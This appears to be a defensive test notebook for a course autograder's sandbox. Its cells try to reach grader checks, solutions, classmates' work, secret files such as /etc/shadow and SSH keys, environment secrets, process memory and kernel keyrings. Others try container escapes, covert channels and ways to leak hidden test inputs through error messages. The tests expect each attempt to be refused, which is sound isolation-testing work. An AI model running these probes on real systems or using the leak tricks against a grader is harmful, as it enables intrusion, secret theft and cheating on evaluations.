# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown]
# Attacks that read: checks, solutions, other submissions, the machine, what others left behind.

# %%
# ruff: noqa: C416, E402, E501, F811, PTH103, PTH109, PTH110, PTH111, PTH112, PTH115, PTH116, PTH118, PTH119, PTH120, PTH123, PTH207, PTH208, SIM105, SIM115

# %% attack="checks_on_disk" seen="made: [0-9]{4,} files"
"""Walks the whole file system for the checks' files; none may lie there."""

import os

seen, found = 0, []
for folder, folders, files in os.walk("/"):
    if folder == "/":
        folders[:] = [name for name in folders if name not in ("proc", "sys")]
    seen += len(files)
    found += [
        os.path.join(folder, f) for f in files if f.startswith("test_lora") or f == "04_lora.py"
    ]
if found := [path for path in found if "/libraries/" not in path or "autograder" in path]:
    raise RuntimeError(f"LOOT {found[:5]}")
raise RuntimeError(f"made: {seen} files")

# %% attack="compiled_checks" seen="made: looked at [0-9]+ caches"
"""Looks for byte code that Python leaves beside the checks and the solutions; there is none."""
import glob
import os

caches = glob.glob("/sandbox/**/__pycache__/*", recursive=True)
for top in ("/libraries", "/python", "/usr/lib", "/tmp", "/dev/shm", "/var", "/opt", "/srv"):
    for folder, _, files in os.walk(top):
        if "__pycache__" in folder:
            caches += [
                os.path.join(folder, f) for f in files if "lora" in f and "peft" not in folder
            ]
stolen = [path for path in caches if "test_lora" in path or "04_lora" in path or "checks" in path]
if stolen := [
    path for path in stolen if "/site-packages/" not in path and "/libraries/" not in path
]:
    raise RuntimeError(f"LOOT {stolen}")
raise RuntimeError(f"made: looked at {len(caches)} caches")

# %% attack="solution_text" seen="made: read [0-9]+ files"
"""Reads every text file of the course and of the scratch folders for a solution; there is none."""
import os

mark, read, found = "### BEGIN " + "SOLUTION", 0, []
for top in (
    "/sandbox",
    "/tmp",
    "/dev/shm",
    "/etc",
    "/srv",
    "/opt",
    "/var",
    "/home",
    "/root",
    "/mnt",
):
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            if name.endswith((".py", ".ipynb", ".md", ".txt", ".html", ".json", ".jsonl", ".csv")):
                text, read = open(path, errors="replace").read(), read + 1
                if mark in text or "low = F.linear(x, lora_A)" in text:
                    found.append(path)
if found:
    raise RuntimeError(f"LOOT {found}")
raise RuntimeError(f"made: read {read} files")

# %% attack="editable_install" seen="made: [0-9]+ hints"
"""Follows the paths that an editable install leaves among the libraries; none may lead anywhere."""
import glob
import json
import os
import re
import sys

hints = set()
for top in {p for p in sys.path if os.path.isdir(p)}:
    for path in glob.glob(f"{top}/*.pth") + glob.glob(f"{top}/__editable__*"):
        hints |= set(re.findall(r"/[\w./-]+", open(path, errors="replace").read()))
    for path in glob.glob(f"{top}/fine_tuning*/direct_url.json"):
        hints.add(json.load(open(path))["url"].removeprefix("file://"))
got = [
    h for h in hints for name in ("solutions", "autograder/checks") if os.path.isdir(f"{h}/{name}")
]
if got:
    raise RuntimeError(f"LOOT {[(h, os.listdir(h)) for h in got]}")
raise RuntimeError(f"made: {len(hints)} hints")

# %% attack="import_the_checks" seen="made: [0-9]+ refused"
"""Imports the grader's modules by all their names, from all paths; only a stub is there."""
import importlib
import os
import sys

for extra in ("/work", "/libraries", "/usr/src", os.path.expanduser("~"), "/", "/autograder"):
    sys.path.append(extra)
refused = 0
for name in (
    "autograder.checks.hidden.test_lora", "autograder.checks.visible.test_lora", "autograder.grading.score_submission",
    "autograder.checking.expect", "autograder.checking.plugin", "autograder.catalogue.lessons", "solutions", "test_lora",
    "autograder.sandbox.session", "autograder.sandbox.launch", "autograder.sandbox.outer_wall",
):  # fmt: skip
    try:
        raise RuntimeError(f"LOOT {importlib.import_module(name).__file__}")
    except ImportError:
        refused += 1
raise RuntimeError(f"made: {refused} refused")

# %% attack="other_submissions" seen="made: [0-9]+ notebooks of the libraries"
"""Looks for other learners' notebooks, by ending and by content; none may be seen."""
import os

found, harmless = [], 0
for folder, folders, files in os.walk("/"):
    if folder == "/":
        folders[:] = [name for name in folders if name not in ("proc", "sys")]
    for path in (os.path.join(folder, f) for f in files if f.endswith(".ipynb")):
        mine = (
            not folder.startswith("/sandbox/course")
            and "lora" in open(path, errors="replace").read()
        )
        found += [path] if mine and "site-packages" not in path and "/libraries" not in path else []
        harmless += 1
if found:
    raise RuntimeError(f"LOOT {found[:5]}")
raise RuntimeError(f"made: {harmless} notebooks of the libraries")

# %% attack="results_folder" seen="made: no results under"
"""Looks for the results of the run, those of classmates among them; none may be seen."""
import os

names = {"results.jsonl", "scores.csv", "run.json", "class.png", "gradebook.db", "results.new"}
tops = {"/tmp", "/dev/shm", "/sandbox", "/var", "/srv", "/mnt", "/home", "/root", "/work", "/data"}
tops |= {line.split()[3] for line in open("/proc/self/mountinfo")} - {"/"}
tops |= {os.path.dirname(top) for top in tops} - {"/"}
found = []
for top in tops:
    for folder, _, files in os.walk(top):
        found += [os.path.join(folder, name) for name in files if name in names]
if found:
    raise RuntimeError(f"LOOT {found[:5]}")
raise RuntimeError(f"made: no results under {len(tops)} places")

# %% attack="processes_of_others" seen="made: only"
"""Reads environment, command line, memory map, descriptors and root of every process in /proc."""
import os

mine, loot = {str(os.getpid()), "1"}, []
pids = [name for name in os.listdir("/proc") if name.isdigit()]
for pid in {*pids, *map(str, range(1, 400))} - mine:
    for what in ("environ", "cmdline", "maps", "stat", "comm"):
        try:
            if text := open(f"/proc/{pid}/{what}", "rb").read(40):
                loot.append((pid, what, text[:20]))
        except OSError:
            pass
    for what in ("fd", "root", "cwd", "task"):
        try:
            loot.append((pid, what, os.listdir(f"/proc/{pid}/{what}")[:3]))
        except OSError:
            pass
if loot:
    raise RuntimeError(f"LOOT {loot[:6]}")
raise RuntimeError(f"made: only {pids}")

# %% attack="first_process" seen="made: process 1 is"
"""Asks process 1 for its root, folder, environment and descriptors; it is the child itself."""
import os

links, me = {}, os.getpid()
for what in ("root", "cwd", "exe"):
    try:
        links[what] = os.readlink(f"/proc/1/{what}")
    except OSError as error:
        links[what] = error.strerror
names = [part.split(b"=")[0].decode() for part in open("/proc/1/environ", "rb").read().split(b"\0")]
strange = [
    n for n in names if n.startswith(("PYTEST", "USER", "SUDO", "SSH", "VIRTUAL", "LOGNAME"))
]
above = [
    name for name in os.listdir("/proc/1/root/") if name in ("root", "home", "work", "var", "run")
]
if strange or above or me != 1 or os.path.exists("/proc/1/root/../etc/passwd"):
    raise RuntimeError(f"LOOT {strange} {above} {me}")
raise RuntimeError(f"made: process 1 is {me}, {links}")

# %% attack="environment" seen="made: [0-9]+ variables"
"""Reads the grader's variables from Python, from libc and from the stack; none came in."""
import ctypes
import os

environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
raw = [part for part in open("/proc/self/environ", "rb").read().split(b"\0") if part]
number = 0
while environ[number]:
    raw.append(environ[number])
    number += 1
raw += [key + b"=" + value for key, value in os.environb.items()]
names = {part.split(b"=")[0].decode() for part in raw}
words = (
    "_TOKEN",
    "SECRET",
    "PASS",
    "APIKEY",
    "AUTH",
    "CRED",
    "PYTEST",
    "SSH",
    "USER",
    "LOGNAME",
    "PROXY",
)
places = (b"/home/", b"/root", b"/work/", b"pytest-of", b"/.venv")
loot = [name for name in names if any(word in name.upper() for word in words)]
loot += [part.split(b"=")[0].decode() for part in raw if any(place in part for place in places)]
if loot:
    raise RuntimeError(f"LOOT the variables {sorted(set(loot))}")
raise RuntimeError(f"made: {len(names)} variables")

# %% attack="homes" seen="made: [0-9]+ places refused"
"""Lists the home folders and the machine's folders of secrets; nothing is there to be listed."""
import glob
import os

refused, loot = 0, []
tops = [
    "/root",
    "/home",
    "/work",
    "/mnt",
    "/media",
    "/run",
    "/var",
    "/opt",
    "/srv",
    "/boot",
    "/farm",
]
for top in tops + glob.glob("/home/*") + [os.path.expanduser("~root"), os.path.expanduser("~")]:
    try:
        loot += [top] if os.listdir(top) and not top.startswith("/tmp") else []
    except OSError:
        refused += 1
if loot:
    raise RuntimeError(f"LOOT the lists of {loot}")
raise RuntimeError(f"made: {refused} places refused")

# %% attack="accounts_and_secrets" seen="made: [0-9]+ files refused"
"""Opens the files of the machine that name accounts, hosts and keys; none may open."""
refused = []
for path in (
    "/etc/passwd", "/etc/shadow", "/etc/group", "/etc/sudoers", "/etc/machine-id", "/etc/hostname",
    "/etc/hosts", "/etc/resolv.conf", "/etc/ssh/ssh_host_ed25519_key", "/etc/environment",
    "/var/lib/dbus/machine-id", "/etc/fstab", "/etc/mtab", "/var/log/syslog", "/.dockerenv",
):  # fmt: skip
    try:
        if open(path, "rb").read(1):
            raise RuntimeError(f"LOOT {path} opens")
    except OSError:
        refused.append(path)
raise RuntimeError(f"made: {len(refused)} files refused")

# %% attack="git_history" seen="made: [0-9]+ folders"
"""Looks for a repository above every path that is known inside; git tells no history."""
import os
import subprocess
import sys

tops = {*sys.path, os.getcwd(), "/", *(line.split()[3] for line in open("/proc/self/mountinfo"))}
tops |= {
    parent
    for top in list(tops)
    for parent in (os.path.dirname(top), os.path.dirname(os.path.dirname(top)))
}
for top in tops:
    if os.path.exists(os.path.join(top, ".git")):
        log = subprocess.run(["git", "-C", top, "log", "-3"], capture_output=True, text=True).stdout
        raise RuntimeError(f"LOOT {top}/.git {log[:200]}")
raise RuntimeError(f"made: {len(tops)} folders")

# %% attack="objects_of_the_warm_process" seen="made: [0-9]+ objects"
"""Unfreezes what the warm process left to the collector and looks for checks and submissions."""
import gc
import sys

gc.unfreeze()
things, loot, marks = (
    gc.get_objects(),
    [],
    ("mark" + ".task(", "BEGIN " + "SOLUTION", "/hon" + "est", "pytest-" + "of"),
)
for thing in things:
    if type(thing) is dict and ("__file__" in thing or len(thing) < 40):
        for key, value in list(thing.items()):
            if (
                type(value) is str
                and any(mark in value for mark in marks)
                and key not in ("In", "_ih")
            ):
                loot.append((key, value[:60]))
frame, names = sys._getframe(), []
while frame:
    names.append(frame.f_code.co_name)
    loot += [n for n in frame.f_locals if n in ("seed", "expected", "checks", "path", "control")]
    frame = frame.f_back
mine = [what for what in loot if "LOOT" not in str(what) and what not in ("path",)]
if mine:
    raise RuntimeError(f"LOOT {mine[:5]} {names}")
raise RuntimeError(f"made: {len(things)} objects, {names[-3:]}")

# %% attack="raw_memory" seen="made: [0-9]+ MB"
"""Searches its own pages, shared with the warm process, for text of checks or of classmates."""
total, loot = 0, []
wanted = {
    "(ksat.kram.tsetyp": b'"lora',
    "NOITULOS NIGEB ###": b"\n",
    "fo-tsetyp/pmt/": b"-",
    "neddih/skcehc/": b"test_",
}
wanted = {key[::-1].encode(): after for key, after in wanted.items()}
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as memory:
    for line in maps:
        area, rights, *_ = line.split()
        start, end = (int(part, 16) for part in area.split("-"))
        if "w" not in rights or end - start > 1 << 26:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except OSError:
            continue
        total += len(data)
        for mark, after in wanted.items():
            place = data.find(mark)
            while place >= 0:
                if data.startswith(after, place + len(mark)):
                    loot.append(data[place : place + 60])
                place = data.find(mark, place + 1)
if loot:
    raise RuntimeError(f"LOOT {loot[:5]}")
raise RuntimeError(f"made: {total >> 20} MB")

# %% attack="probes_looked_at" task="lora_linear" seen="raised RuntimeError: made: "
"""Looks, while a check builds the layer, at the frames and globals of whoever calls it."""
import gc
import sys

import torch


class LoRALinear(torch.nn.Module):
    def __init__(self, *args, **kwargs):
        frame, names, loot = sys._getframe(1), [], []
        while frame:
            names.append(frame.f_code.co_name)
            known = {**frame.f_globals, **frame.f_locals}
            loot += [
                n for n in known if n.startswith("test_") or n in ("expected", "oracle", "answer")
            ]
            loot += [
                c
                for c in frame.f_code.co_consts
                if type(c) is str and "mark.task" in c and "LOOT" not in c
            ]
            frame = frame.f_back
        loot += [
            f.__name__
            for f in gc.get_objects()
            if type(f) is type(lambda: 0) and "pytestmark" in f.__dict__
        ][:5]
        raise RuntimeError(f"LOOT {loot[:8]}" if loot else f"made: {names[:8]}")


# %% attack="inputs_in_a_message" task="lora_forward" seen="raised ValueError: -----"
"""Carries a hidden check's inputs out by an exception's text; the record holds only its beginning."""


def lora_forward(x, weight, *args, **kwargs):
    raise ValueError("-" * 200 + f"LOOT {x.tolist()} {weight.tolist()}")


# %% attack="inputs_in_a_class_name" task="lora_forward" seen="raised Inputs_"
"""Carries inputs out by the name of an exception's class, of its bases and of its module."""


def lora_forward(x, weight, *args, **kwargs):
    text = "LOOT" + "_".join(str(v) for v in x.flatten().tolist())
    base = type("Base" + "_" * 150 + text, (Exception,), {"__module__": text, "__qualname__": text})
    raise type("Inputs_" + "_" * 150 + text, (base,), {"__module__": text, "__qualname__": text})


# %% attack="inputs_by_names_and_text" task="lora_forward" seen="raised N{100}( \\(|\n|$)"
"""Carries inputs out by an exception's class, its text and its function's name, a part by each."""
import types


def lora_forward(x, *args, **kwargs):
    text = "LOOT" + "_".join(str(v) for v in x.flatten().tolist())
    carrier = type("N" * 100, (Exception,), {})

    def inner():
        raise carrier(text)

    code = inner.__code__.replace(co_qualname=text, co_name=text, co_firstlineno=7919)
    types.FunctionType(code, globals(), "f", None, inner.__closure__)()


# %% attack="inputs_in_notes" task="lora_forward" seen="raised KeyError: 'made'"
"""Carries inputs out by an exception's notes, causes, context and extra attributes."""


def lora_forward(x, weight, *args, **kwargs):
    text = f"LOOT {x.tolist()}"
    error = KeyError("made")
    error.add_note(text)
    error.text = error.where = error.message = error.__doc__ = text
    raise error from ExceptionGroup(text, [ValueError(text)])


# %% attack="inputs_in_a_file_name" task="lora_forward" seen="raised ValueError: made"
"""Carries inputs out by the name of the cell in which the exception seems to be raised."""


def lora_forward(x, weight, *args, **kwargs):
    text = "_" * 150 + "LOOT" + "_".join(str(v) for v in x.flatten().tolist())
    exec(compile("raise ValueError('made')", f"<cell {text}>", "exec"), {})


# %% attack="inputs_in_output" task="lora_forward" seen="raised RuntimeError: made"
"""Prints, logs, warns and displays the inputs, past Python's own streams too; none is shown."""
import logging
import os
import sys
import warnings

from IPython.display import HTML, display


def lora_forward(x, weight, *args, **kwargs):
    text = f"LOOT {x.tolist()}"
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        print(text, file=stream, flush=True)
    for number in (1, 2):
        os.write(number, text.encode())
    logging.getLogger().critical(text)
    warnings.warn(text, stacklevel=1)
    display(HTML(text))
    raise RuntimeError("made")


# %% attack="inputs_in_a_strange_result" task="lora_forward" seen="(got|nested|cannot be graded|should be a tensor)"
"""Answers with the inputs, as text, key and nesting, so that the message might show what came."""


def lora_forward(x, weight, *args, **kwargs):
    text = "_" * 200 + f"LOOT {x.tolist()}"
    return {text: [text, {"a" * 200 + text: (text,)}]}


# %% attack="leaves_all_over" seen="made: left [0-9]+ things"
"""Leaves something in every place that takes it; the next attack looks for it."""
import ctypes
import os
import socket
import time

left, mark = [], "left-by-a-classmate"
places = {line.split()[1] for line in open("/proc/self/mounts")} | {
    "/",
    "/var/tmp",
    "/run",
    "/usr/tmp",
}
for top in list(places):
    places |= (
        set()
        if top.startswith("/proc")
        else {folder for folder, _, _ in os.walk(top) if os.access(folder, os.W_OK)}
    )
for place in places:
    try:
        open(os.path.join(place, mark), "w").write(mark)
        left.append(place)
    except OSError:
        pass
libc = ctypes.CDLL(None)
left += [
    name
    for name, got in (
        ("shm", libc.shmget(7331, 4096, 0o1666)),
        ("msg", libc.msgget(7331, 0o1666)),
        ("sem", libc.semget(7331, 1, 0o1666)),
    )
    if got >= 0
]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        sock = socket.socket(socket.AF_UNIX)
        sock.bind("\0" + mark)
        sock.listen()
        time.sleep(20)
    os._exit(0)
raise RuntimeError(f"made: left {len(left)} things")

# %% attack="files_left_by_others" seen="made: nothing was left"
"""Looks for what an earlier submission left: files, shared memory, queues, sockets, byte code."""
import ctypes
import os
import socket

mark, found = "left-by-a-classmate", []
for folder, folders, files in os.walk("/"):
    if folder == "/":
        folders[:] = [
            name for name in folders if name not in ("proc", "usr", "libraries", "python")
        ]
    found += [os.path.join(folder, mark)] if mark in files else []
found += os.listdir("/dev/shm") + [
    name
    for name in os.listdir("/tmp")
    if name not in ("matplotlib", ".ipython", ".cache", ".config")
]
libc = ctypes.CDLL(None)
found += [
    key
    for key in (7331,)
    if libc.shmget(key, 0, 0) >= 0 or libc.msgget(key, 0) >= 0 or libc.semget(key, 0, 0) >= 0
]
for kind in ("shm", "msg", "sem"):
    try:
        found += open(f"/proc/sysvipc/{kind}").read().splitlines()[1:]
    except OSError:
        pass
try:
    socket.socket(socket.AF_UNIX).connect("\0" + mark)
    found.append("a socket")
except OSError:
    pass
if found:
    raise RuntimeError(f"LOOT {found[:8]}")
raise RuntimeError("made: nothing was left")

# %% attack="terminal_held" seen="made: "
"""Holds a terminal open with a note in it, for a conspirator who runs at the same time."""
import os
import time

try:
    master, slave = os.openpty()
    os.write(slave, b"the inputs of the third check\n" * 3)
    time.sleep(3)
    said = f"held {os.ttyname(slave)}"
except OSError as error:
    said = f"refused, {error.strerror}"
raise RuntimeError(f"made: {said}")

# %% attack="terminals_of_others" seen="made: "
"""Looks for terminals that another submission holds; it sees and opens none but its own."""
import os
import time

own, seen = set(), set()
try:
    own = {os.path.basename(os.ttyname(os.openpty()[1]))}
except OSError:
    pass
for _ in range(30):
    seen |= set(os.listdir("/dev/pts")) - own - {"ptmx"} if os.path.isdir("/dev/pts") else set()
    time.sleep(0.1)
if seen or own - {"0"}:
    raise RuntimeError(f"LOOT other terminals: {sorted(seen)}, own {own}")
raise RuntimeError(f"made: own {own}")

# %% attack="lock_held" seen="made: (locked|refused)"
"""Locks a file that all submissions see, as a sign to a conspirator who runs at the same time."""
import fcntl
import os
import sys
import time

try:
    signal_file = os.open("/sandbox/autograder/sandbox/wire.py", os.O_RDONLY)
    fcntl.flock(signal_file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    said = "locked"
    time.sleep(3)
except OSError as error:
    said = f"refused, {error.strerror}"
raise RuntimeError(f"made: {said}")

# %% attack="locks_of_others" seen="made: "
"""Feels for locks that another submission holds; what one locks, the other must not notice."""
import fcntl
import os
import time

for _ in range(30):
    file = os.open("/sandbox/autograder/sandbox/wire.py", os.O_RDONLY)
    try:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        fcntl.flock(file, fcntl.LOCK_UN)
    except BlockingIOError:
        raise RuntimeError("LOOT a bit from another submission, by a lock") from None
    os.close(file)
    time.sleep(0.1)
raise RuntimeError("made: no lock felt")

# %% attack="network" seen="made: [0-9]+ refused"
"""Opens sockets of every family but unix, and connects to loopback and outside; none opens."""
import socket

refused, loot = 0, []
for family in [number for number in range(2, 46)]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            sock = socket.socket(family, kind)
            loot.append((family, int(kind)))
            sock.close()
        except OSError:
            refused += 1
for address in (("127.0.0.1", 22), ("192.0.2.1", 80), ("::1", 22)):
    try:
        socket.create_connection(address, timeout=0.3)
        loot.append(address)
    except OSError:
        refused += 1
if loot:
    raise RuntimeError(f"LOOT sockets of {loot}")
raise RuntimeError(f"made: {refused} refused")

# %% attack="names_and_downloads" seen="made: [0-9]+ refused"
"""Asks the name service, the web and the model hub, by Python and by the programs of the system."""
import socket
import subprocess
import urllib.request

refused = 0
for ask in (
    lambda: socket.getaddrinfo("example.com", 80),
    lambda: socket.gethostbyname("example.com"),
    lambda: urllib.request.urlopen("http://192.0.2.1/", timeout=1),
    lambda: subprocess.run(["getent", "hosts", "example.com"], check=True, timeout=3),
    lambda: subprocess.run(
        ["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/22"], check=True, timeout=3, stderr=-3
    ),
):
    try:
        raise RuntimeError(f"LOOT {ask()}")
    except (OSError, subprocess.SubprocessError):
        refused += 1
raise RuntimeError(f"made: {refused} refused")

# %% attack="sockets_of_the_machine" seen="made: [0-9]+ sockets, "
"""Connects to every unix socket that is listed, and to the agents and daemons of the machine."""
import glob
import os
import socket

listed = [
    line.split()[7]
    for line in open("/proc/net/unix").read().splitlines()[1:]
    if len(line.split()) > 7
]
known = [
    "/run/docker.sock",
    "/var/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/run/dbus/system_bus_socket",
]
known += [
    "/run/systemd/private",
    "\0/tmp/.X11-unix/X0",
    "/run/udev/control",
    os.environ.get("SSH_AUTH_SOCK", "/none"),
]
known += (
    glob.glob("/tmp/ssh-*/*")
    + glob.glob("/run/user/*/*")
    + glob.glob("/tmp/**/*.sock", recursive=True)
)
for path in [name.replace("@", "\0", 1) for name in listed] + known:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        sock = socket.socket(socket.AF_UNIX, kind)
        try:
            sock.connect(path)
            raise RuntimeError(f"LOOT a connection to {path!r}")
        except (OSError, ValueError):
            sock.close()
raise RuntimeError(f"made: {len(listed)} sockets, {len(known)} known")

# %% attack="keyrings" seen="made: [0-9]+ refused"
"""Reads the kernel's keyrings, of the session, the user and the process; none may be had."""
import ctypes

libc, refused = ctypes.CDLL(None, use_errno=True), 0
for number in (-1, -2, -3, -4, -5, -6, -7, -8):
    buffer = ctypes.create_string_buffer(4096)
    for operation in (0, 6, 11):  # the id, a description, the contents
        if libc.syscall(250, operation, number, buffer, 4096) >= 0:
            raise RuntimeError(f"LOOT key {number}: {buffer.value[:60]}")
        refused += 1
for call, args in ((248, (b"user", b"left", b"secret", 6, -3)), (249, (b"user", b"left", None, 0))):
    if libc.syscall(call, *args) >= 0:
        raise RuntimeError(f"LOOT a key by system call {call}")
    refused += 1
raise RuntimeError(f"made: {refused} refused")

# %% attack="own_descriptors" seen="made: [0-9]+ open"
"""Opens each of its descriptors anew by /proc; none leads to a file of the grader's."""
import os

links, loot = {}, []
for pid in ("self", "1", "thread-self"):
    for number in os.listdir(f"/proc/{pid}/fd"):
        try:
            links[number] = link = os.readlink(f"/proc/{pid}/fd/{number}")
        except OSError:
            continue
        if link.startswith("/") and not link.startswith(
            ("/dev/null", "/dev/urandom", "/tmp/", "/proc/", "/libraries", "/python", "/usr")
        ):
            loot.append((number, link))
        if link.startswith(("pipe:", "anon_inode:", "/memfd")):
            loot.append((number, link))
loot = [pair for pair in loot if "eventpoll" not in pair[1]]
if loot or sum(link.startswith("socket:") for link in links.values()) > 4:
    raise RuntimeError(f"LOOT {loot} {links}")
raise RuntimeError(f"made: {len(links)} open")

# %% attack="kernel_files" seen="made: [0-9]+ refused"
"""Reads the kernel's log, memory and symbols, and opens its switches for writing; none may be had."""
import ctypes
import os

refused, loot = 0, []
for path in (
    "/dev/kmsg",
    "/proc/kmsg",
    "/proc/kcore",
    "/dev/mem",
    "/dev/kmem",
    "/dev/port",
    "/sys/kernel/debug",
    "/sys/class",
    "/sys/fs/cgroup",
):
    try:
        os.listdir(path) if os.path.isdir(path) else os.read(
            os.open(path, os.O_RDONLY | os.O_NONBLOCK), 16
        )
        loot.append(path)
    except OSError:
        refused += 1
for path in (
    "kernel/core_pattern",
    "kernel/modprobe",
    "vm/overcommit_memory",
    "kernel/hostname",
    "user/max_user_namespaces",
    "fs/pipe-max-size",
):
    try:
        os.close(os.open(f"/proc/sys/{path}", os.O_WRONLY))
        loot.append(path)
    except OSError:
        refused += 1
symbols = open("/proc/kallsyms").readlines()[:50] if os.path.exists("/proc/kallsyms") else []
loot += [line for line in symbols if not line.startswith("0000000000000000")][:1]
loot += (
    ["syslog(2)"]
    if ctypes.CDLL(None).klogctl(3, ctypes.create_string_buffer(4096), 4096) >= 0
    else []
)
if loot:
    raise RuntimeError(f"LOOT {loot}")
raise RuntimeError(f"made: {refused} refused")

# %% attack="devices" seen="made: [0-9]+ devices"
"""Opens every device that is there, and makes those that are not; no disk, memory or GPU opens."""
import os
import stat

harmless, opened, count = {"null", "zero", "full", "random", "urandom", "tty", "ptmx"}, [], 0
harmless |= {"stdin", "stdout", "stderr"}
for folder, _, files in os.walk("/dev"):
    for name in files:
        path, count = os.path.join(folder, name), count + 1
        if (
            name in harmless
            or not os.path.exists(path)
            or folder == "/dev/pts"
            or not stat.S_ISCHR(os.stat(path).st_mode) | stat.S_ISBLK(os.stat(path).st_mode)
        ):
            continue
        try:
            os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
            opened.append(path)
        except OSError:
            pass
for major, minor, kind in ((8, 0, stat.S_IFBLK), (254, 0, stat.S_IFBLK), (1, 1, stat.S_IFCHR)):
    try:
        os.mknod(f"/tmp/device-{major}", kind | 0o666, os.makedev(major, minor))
        opened.append(f"made {major}:{minor}")
    except OSError:
        pass
if opened:
    raise RuntimeError(f"LOOT {opened}")
raise RuntimeError(f"made: {count} devices")

# %% attack="paths_of_the_mounts" seen="made: [0-9]+ mounts"
"""Follows the machine's paths that the list of mounts tells; none of them opens inside."""
import os

roots = {line.split()[3] for line in open("/proc/self/mountinfo")} - {"/"}
loot = []
for root in roots:
    parts = root.split("/")
    for place in ["/".join(parts[:end]) for end in range(2, len(parts) + 1)]:
        if os.path.isdir(place) and not place.startswith(
            ("/tmp", "/usr", "/lib", "/etc", "/bin", "/sbin", "/dev")
        ):
            loot.append(place)
if loot:
    raise RuntimeError(f"LOOT {sorted(set(loot))}")
raise RuntimeError(f"made: {len(roots)} mounts")

# %% attack="ways_up" seen="made: [0-9]+ refused"
"""Climbs out by chroot, by a handle of a file and by links through /proc; every way is shut."""
import ctypes
import os

libc, refused = ctypes.CDLL(None, use_errno=True), 0
os.makedirs("/tmp/jail", exist_ok=True)
for result in (
    libc.chroot(b"/tmp/jail"),
    libc.pivot_root(b"/tmp", b"/tmp/jail"),
    libc.setns(os.open("/proc/1/ns/mnt", 0), 0),
    libc.open_by_handle_at(-100, ctypes.create_string_buffer(64), 0),
):
    if result >= 0:
        raise RuntimeError("LOOT a way up")
    refused += 1
for path in (
    "/proc/self/root/../../root",
    "/proc/1/cwd/../../../work",
    "/proc/self/task/1/root/home",
    "/tmp/jail/../../../home",
):
    if os.path.exists(path):
        raise RuntimeError(f"LOOT {path}")
    refused += 1
raise RuntimeError(f"made: {refused} refused")

# %% attack="memory_of_others" seen="made: [0-9]+ refused"
"""Reads and traces other processes by number, the parent's above all; each call is refused."""
import ctypes
import os

libc, refused = ctypes.CDLL(None, use_errno=True), 0
buffer = ctypes.create_string_buffer(64)
vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 64)
for pid in [os.getppid(), *range(2, 60)]:
    for number, args in (
        (101, (16, pid, 0, 0)),
        (310, (pid, vector, 1, vector, 1, 0)),
        (312, (1, pid, 0, 0, 0)),
        (434, (pid, 0)),
    ):
        got = libc.syscall(number, *args)
        if got >= 0:
            raise RuntimeError(f"LOOT system call {number} on {pid} gives {got}")
        refused += 1
raise RuntimeError(f"made: {refused} refused")

# %% attack="work_of_others" seen="made: [0-9]+ counters"
"""Watches the machine's counters for other submissions' processes; no process is named there."""
import os
import time

loot, counters = [], 0
for path in (
    "locks",
    "sched_debug",
    "timer_list",
    "latency_stats",
    "slabinfo",
    "vmallocinfo",
    "pagetypeinfo",
    "keys",
    "key-users",
):
    try:
        text = open(f"/proc/{path}").read()
    except OSError:
        continue
    counters += 1
    if path in ("sched_debug", "timer_list", "slabinfo", "vmallocinfo") and text.strip():
        loot.append(path)
for _ in range(10):
    loot += [n for n in os.listdir("/proc") if n.isdigit() and n != str(os.getpid())]
    time.sleep(0.05)
if loot:
    raise RuntimeError(f"LOOT {loot}")
raise RuntimeError(f"made: {counters} counters")

# %% attack="accesses_watched" seen="made: (refused|watched [0-9]+)"
"""Watches the libraries' folders, which all submissions share, for what others open there."""
import ctypes
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
watch = libc.inotify_init1(0o4000)
if watch < 0:
    raise RuntimeError("made: refused")
folders = [
    folder
    for folder in (
        "/sandbox/course",
        "/sandbox/course/data",
        "/libraries/torch/nn",
        "/libraries/IPython/core",
        "/usr/lib",
    )
    if os.path.isdir(folder)
]
for folder in folders:
    libc.inotify_add_watch(watch, folder.encode(), 0x21)
time.sleep(3)
try:
    raise RuntimeError(f"LOOT others opened {os.read(watch, 4096)[16:60]}")
except BlockingIOError:
    raise RuntimeError(f"made: watched {len(folders)}") from None
